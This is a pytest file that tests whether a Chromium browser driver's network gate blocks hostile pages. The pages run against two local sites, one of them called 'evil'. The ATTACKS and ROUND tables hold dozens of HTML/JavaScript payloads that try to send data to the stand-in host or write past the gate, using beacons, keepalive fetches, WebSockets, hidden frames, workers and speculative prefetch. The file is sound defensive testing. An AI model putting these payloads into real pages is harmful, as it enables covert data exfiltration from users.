"""In Chromium: whatever a page tries, nothing leaves that the gate has not allowed.

Two sites stand on loopback, at two ports, which are two origins. The gate allows reading of one.
"""

from __future__ import annotations

import time
from collections.abc import Iterator

import pytest

from adwright.agent.drivers.chromium import ChromiumBrowser, ChromiumDriver
from adwright.agent.drivers.protocol import DriverError, GateDecision, PendingRequest, SeenRequest
from adwright.agent.drivers.way_out import GatedNetwork
from adwright.agent.explore.explorer import ReadingGate
from tests.support.agent.site.browsing import chromium_or_skip, node_of
from tests.support.agent.site.pages import page
from tests.support.agent.site.server import SmallSite, small_site


@pytest.fixture(scope="module")
def chromium() -> Iterator[ChromiumBrowser]:
    with chromium_or_skip() as browser:
        yield browser


@pytest.fixture(scope="module")
def sites() -> Iterator[tuple[SmallSite, SmallSite]]:
    with small_site() as home, small_site() as evil:
        yield home, evil


#: What a hostile page does by itself or when its button is tapped; {evil} is the other site.
ATTACKS = {
    "image": '<img src="{evil}/x.png">',
    "script": '<script src="{evil}/x.js"></script>',
    "style": '<link rel="stylesheet" href="{evil}/x.css">',
    "frame": '<iframe src="{evil}/x"></iframe>',
    "prefetch": '<link rel="prefetch" href="{evil}/x"><link rel="preconnect" href="{evil}">',
    "fetch": "<script>fetch('{evil}/x').catch(() => 0)</script>",
    "write": "<script>fetch('/offers/1', {{method: 'POST', body: 'x'}}).catch(() => 0)</script>",
    "beacon": "<script>navigator.sendBeacon('/offers/1', 'x')</script>",
    "beacon away": "<script>navigator.sendBeacon('{evil}/x', 'x')</script>",
    "socket": "<script>new WebSocket('{socket}/x')</script>",
    "refresh": '<meta http-equiv="refresh" content="0;url={evil}/x">',
    "navigation": "<script>location.href = '{evil}/x'</script>",
    "form": '<form id="f" action="/offers/1" method="post"></form><script>f.submit()</script>',
    "put": "<script>fetch('/offers/1', {{method: 'PUT'}}).catch(() => 0)</script>",
    "worker": "<script>navigator.serviceWorker?.register('/sw.js').catch(() => 0)</script>",
    "redirect": '<img src="/leads-away"><iframe src="/leads-away"></iframe>',
    "events": "<script>new EventSource('{evil}/x')</script>",
    "data frame": "<iframe src=\"data:text/html,<img src='{evil}/x'>\"></iframe>",
    "blob frame": "<iframe id=b></iframe><script>b.src = URL.createObjectURL(new Blob([`<img src="
    "'{evil}/x'>`], {{type: 'text/html'}}))</script>",
    "inner frame": "<iframe srcdoc=\"<script>fetch('{evil}/x')</script>\"></iframe>",
    "popup": "<button onclick=\"window.open('{evil}/x')\">Go on</button>",
    "own popup": "<button onclick=\"window.open('/secret')\">Go on</button>",
    "blank": '<a href="{evil}/x" target="_blank" rel="opener">Go on</a>',
    "ping": '<a href="#here" ping="{evil}/x">Go on</a>',
    "script link": "<a href=\"javascript:fetch('{evil}/x')\">Go on</a>",
    "download": '<a href="{evil}/x" download>Go on</a>',
    "posting link": '<form action="{evil}/x" method="post"><button>Go on</button></form>',
}


@pytest.fixture(scope="module")
def driver(
    chromium: ChromiumBrowser, sites: tuple[SmallSite, SmallSite]
) -> Iterator[ChromiumDriver]:
    home, evil = sites
    home.redirects["/leads-away"] = f"{evil.url}/x"
    home.redirects["/leads-home"] = "/offers"
    with chromium.driver(ReadingGate((home.url,))) as driver:
        yield driver


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_leaves(
    driver: ChromiumDriver, sites: tuple[SmallSite, SmallSite], name: str
) -> None:
    home, evil = sites
    socket = evil.url.replace("http", "ws")
    home.extra["/hostile"] = page("Hostile", ATTACKS[name].format(evil=evil.url, socket=socket))
    driver.open(f"{home.url}/hostile")
    screen = driver.observe()
    for node in screen.nodes:
        if node.name == "Go on":
            try:
                driver.tap(node)
            except DriverError:
                assert name in ("blank", "download")
    screen = driver.observe()
    assert evil.asked == []
    assert evil.written == home.written == []
    assert "/secret" not in home.asked
    assert screen.url.startswith(f"{home.url}/hostile")
    refused = [one for one in driver.requests() if not one.decision.allowed]
    silent = ("prefetch", "worker", "data frame", "blob frame", "ping", "download", "script link")
    assert refused or name in silent


_LEAVING = "<script>addEventListener('{on}', () => {{{{ {do} }}}})</script>"
_RULES = '<script type="speculationrules">{{{{"{kind}": [{{{{"source": "list", "urls": ["{url}"], '
_RULES += '"eagerness": "immediate"}}}}]}}}}</script>'
_FETCH = "fetch('{url}', {{{{method: 'POST', mode: 'no-cors', keepalive: true, body: 'x'}}}})"
#: Ways that lead round a gate that sits in the page: they need no page, or outlive it.
ROUND = {
    "kept alive as hidden": _LEAVING.format(on="pagehide", do=_FETCH.format(url="/offers/1")),
    "kept alive away": _LEAVING.format(on="pagehide", do=_FETCH.format(url="{evil}/x")),
    "kept alive as seen no more": _LEAVING.format(
        on="visibilitychange", do=_FETCH.format(url="/offers/1")
    ),
    "beacon as hidden": _LEAVING.format(on="pagehide", do="navigator.sendBeacon('/offers/1', 'x')"),
    "beacon as unloaded": _LEAVING.format(
        on="beforeunload", do="navigator.sendBeacon('/offers/1', 'x')"
    ),
    "later": "<script>fetchLater('/offers/1', {{method: 'POST', body: 'x'}})</script>",
    "shared worker": "<script>new SharedWorker('/shared.js')</script>",
    "shared worker of a blob": "<script>new SharedWorker(URL.createObjectURL(new Blob(["
    + f'"{_FETCH.format(url="{home}/offers/1")}"'
    + "])))</script>",
    "worker": "<script>new Worker('/shared.js')</script>",
    "fetched ahead": _RULES.format(kind="prefetch", url="/secret"),
    "fetched ahead away": _RULES.format(kind="prefetch", url="{evil}/x"),
    "drawn ahead": _RULES.format(kind="prerender", url="/secret"),
    "drawn ahead, and writes": _RULES.format(kind="prerender", url="/writes"),
    "link drawn ahead": '<link rel="prerender" href="/secret"><link rel="prefetch" href="/secret">',
}


def go_round(chromium: ChromiumBrowser, home: SmallSite, evil: SmallSite, name: str) -> None:
    """Look at a page that tries so, leave it, look again, and close."""

    def filled(text: str) -> str:
        return text.format(evil=evil.url, home=home.url)

    write = filled(_FETCH.format(url="/offers/1"))
    home.extra |= {
        "/hostile": page("Hostile", filled(ROUND[name])),
        "/shared.js": f"{write}; {filled(_FETCH.format(url='{evil}/x'))}",
        "/writes": page("Writes", f"<script>{write}</script>"),
    }
    gate = ReadingGate((home.url,))

    def reads(request: PendingRequest) -> GateDecision:
        is_ahead = request.url.endswith(("/secret", "/writes"))
        return GateDecision(False, "ahead") if is_ahead else gate(request)

    for leaves in (True, False):
        with chromium.driver(reads) as driver:
            driver.open(f"{home.url}/hostile")
            driver.observe()
            if leaves:
                driver.open(f"{home.url}/offers")
                assert driver.observe().url == f"{home.url}/offers"
    time.sleep(0.3)


@pytest.mark.parametrize("name", ROUND)
def test_nothing_goes_round_the_gate(
    chromium: ChromiumBrowser, sites: tuple[SmallSite, SmallSite], name: str
) -> None:
    home, evil = sites
    go_round(chromium, home, evil, name)
    assert (home.written, evil.written, evil.asked) == ([], [], [])
    assert not {"/secret", "/writes"} & set(home.asked)


def test_each_step_of_a_redirect_is_asked_about(
    driver: ChromiumDriver, sites: tuple[SmallSite, SmallSite]
) -> None:
    home, evil = sites
    driver.requests()
    driver.open(f"{home.url}/leads-home")
    steps = [one for one in driver.requests() if one.request.kind in ("page", "redirect")]
    assert [(one.request.kind, one.request.url, one.status) for one in steps] == [
        ("page", f"{home.url}/leads-home", 302),
        ("redirect", f"{home.url}/offers", 200),
    ]
    assert steps[1].request.redirected_from == f"{home.url}/leads-home"
    with pytest.raises(DriverError, match="does not open"):
        driver.open(f"{home.url}/leads-away")
    with pytest.raises(DriverError, match="the gate refuses"):
        driver.fetch(f"{home.url}/leads-away")
    assert evil.asked == []


def test_a_gate_that_fails_says_no(
    chromium: ChromiumBrowser, sites: tuple[SmallSite, SmallSite]
) -> None:
    def broken(request: PendingRequest) -> None:
        raise RuntimeError(request.url)

    with chromium.driver(broken) as driver:  # type: ignore[arg-type]
        with pytest.raises(DriverError):
            driver.open(sites[0].url)
        (seen,) = driver.requests()
        assert isinstance(seen, SeenRequest)
        assert seen.decision.code == "gate_failed"


def test_what_is_sent_is_shown_to_the_gate(
    chromium: ChromiumBrowser, sites: tuple[SmallSite, SmallSite]
) -> None:
    home, _ = sites
    gate = ReadingGate((home.url,))
    with chromium.driver(gate) as driver:
        driver.open(f"{home.url}/offers/1")
        screen = driver.observe()
        driver.set_text(node_of(screen, "textbox", "Title"), "Green tea")
        driver.requests()
        driver.tap(node_of(screen, "button", "Save"))
        (seen,) = driver.requests()
        assert seen.request.fields == {
            **{"csrf_token": "1-now", "name": "Green tea"},
            **{"price": "3", "action": "Amount"},
        }
        assert (seen.request.method, seen.request.kind) == ("POST", "page")
        assert (seen.decision.code, seen.status) == ("method", 0)
        # The page stays what it was, with what was typed.
        again = driver.observe()
        assert node_of(again, "textbox", "Title").value == "Green tea"
    assert home.written == []
    assert GatedNetwork.__doc__
